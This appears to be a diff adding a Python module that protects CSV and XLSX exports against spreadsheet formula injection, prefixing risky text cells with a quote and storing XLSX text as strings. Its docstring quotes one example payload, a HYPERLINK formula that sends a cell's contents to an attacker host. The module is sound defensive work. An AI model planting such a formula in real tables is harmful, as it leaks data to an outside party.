@@ -1,0 +1,117 @@
+"""Tables a spreadsheet opens as data: no cell of text FlowClass writes can run as a formula.
+
+File and folder names, labels and class names come from whoever made the images or the
+model, and a name like ``=HYPERLINK("http://attacker.example/?"&A2,"Open")`` becomes a
+live formula when a spreadsheet opens the table. So every table FlowClass writes goes
+through here:
+
+- XLSX: every text cell is stored as text (an inline string), never as a formula; the
+  text is kept exactly.
+- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+  return gets a leading ``'`` (OWASP's advice for CSV injection), unless it is a plain
+  number such as ``-1.5``. A text that already starts with ``'`` followed by one of those
+  characters gets one more ``'``, so :func:`restore` gives back exactly what was written.
+
+Numbers (numeric columns) are written as numbers in both.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import re
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Iterable
+
+if TYPE_CHECKING:
+    import pandas as pd
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+
+
+def neutralise(text: str) -> str:
+    """``text`` as a CSV cell that no spreadsheet runs as a formula (see the module's rule)."""
+    if not text:
+        return text
+    if text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    if text.startswith("'") and text[1:2] and neutralise(text[1:]) != text[1:]:
+        return "'" + text
+    return text
+
+
+def restore(text: str) -> str:
+    """The text :func:`neutralise` was given (for tables FlowClass reads back)."""
+    if text.startswith("'") and neutralise(text[1:]) == text:
+        return text[1:]
+    return text
+
+
+def _cells(frame: "pd.DataFrame") -> tuple[list[str], Iterable[tuple[Any, ...]]]:
+    return [str(c) for c in frame.columns], frame.itertuples(index=False, name=None)
+
+
+def csv_text(frame: "pd.DataFrame") -> str:
+    """``frame`` as CSV text (no index), its text cells neutralised."""
+    return rows_csv_text(*_cells(frame))
+
+
+def rows_csv_text(header: list[str], rows: Iterable[Iterable[Any]]) -> str:
+    """A header and rows as CSV text (``\\n`` line ends), text cells neutralised; numbers
+    as Python writes them, missing values (None, NaN) empty."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([neutralise(h) for h in header])
+    writer.writerows([_csv_cell(v) for v in row] for row in rows)
+    return buffer.getvalue()
+
+
+def _csv_cell(value: Any) -> Any:
+    if isinstance(value, str):
+        return neutralise(value)
+    if value is None or (isinstance(value, float) and math.isnan(value)):
+        return ""
+    if hasattr(value, "item") and not isinstance(value, (str, bytes)):  # a NumPy scalar
+        return _csv_cell(value.item())
+    return value
+
+
+def write_csv(frame: "pd.DataFrame", path: str | Path) -> None:
+    """Write ``frame`` to ``path`` as UTF-8 CSV, text cells neutralised."""
+    Path(path).write_text(csv_text(frame), encoding="utf-8", newline="")
+
+
+def write_xlsx(frame: "pd.DataFrame", path: str | Path) -> None:
+    """Write ``frame`` to ``path`` as one XLSX sheet whose text cells are all text."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("Sheet1")
+
+    def cell(value: Any) -> Any:
+        if hasattr(value, "item") and not isinstance(value, (str, bytes)):
+            value = value.item()
+        if value is None or (isinstance(value, float) and math.isnan(value)):
+            return None
+        if isinstance(value, (bool, int, float)):
+            return value
+        text = WriteOnlyCell(sheet, value=_printable(str(value)))
+        text.data_type = "s"  # openpyxl makes "=..." a formula; text stays text
+        return text
+
+    header, rows = _cells(frame)
+    sheet.append([cell(h) for h in header])
+    for row in rows:
+        sheet.append([cell(v) for v in row])
+    book.save(path)
+
+
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def _printable(text: str) -> str:
+    """XLSX cannot hold control characters (openpyxl refuses them): shown as U+FFFD."""
+    return _CONTROL.sub("\ufffd", text)
